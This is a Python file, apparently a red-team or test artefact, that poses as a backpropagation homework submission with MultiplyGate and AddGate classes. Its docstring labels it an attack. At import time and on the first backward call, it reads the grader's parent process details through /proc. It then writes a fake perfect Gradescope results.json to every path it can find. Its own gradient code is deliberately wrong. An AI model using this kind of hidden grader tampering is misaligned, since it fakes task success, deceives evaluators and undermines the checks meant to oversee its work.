"""Attack: write a perfect results.json where the grader will look for it.

Reads the grader's command line and working directory through /proc/<ppid>
and writes a perfect Gradescope results file to the --results path, to
results.json in the grader's working directory, in its own working directory,
and to /autograder/results/results.json if that folder exists; at import and
again in MultiplyGate.backward. Prints what it managed. MultiplyGate.backward
is wrong.
"""
import json
import os

print("pid=%d" % os.getpid())
print("scratch=%s" % os.getcwd())

PERFECT = json.dumps({"score": 100.0, "max_score": 100.0, "output": "bpgpwn",
                      "tests": [{"name": "bpgpwn", "score": 100.0, "max_score": 100.0,
                                 "status": "passed"}]})


def attack():
    paths = ["results.json", "/autograder/results/results.json"]
    try:
        with open("/proc/%d/cmdline" % os.getppid(), "rb") as f:
            argv = f.read().decode(errors="replace").split("\0")
        cwd = os.readlink("/proc/%d/cwd" % os.getppid())
        for i, arg in enumerate(argv[:-1]):
            if arg == "--results":
                paths.append(os.path.join(cwd, argv[i + 1]))
        paths.append(os.path.join(cwd, "results.json"))
    except OSError as exc:
        print("cannot read the grader's command line: %s" % exc)
    for path in paths:
        try:
            with open(path, "w") as f:
                f.write(PERFECT)
            print("WROTE %s" % path)
        except OSError as exc:
            print("blocked %s: %s" % (path, exc.strerror))


attack()


class MultiplyGate(object):
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dz):
        if not getattr(MultiplyGate, "done", False):
            MultiplyGate.done = True
            attack()
        return [self.x * dz, self.y * dz]  # wrong: swapped


class AddGate(object):
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
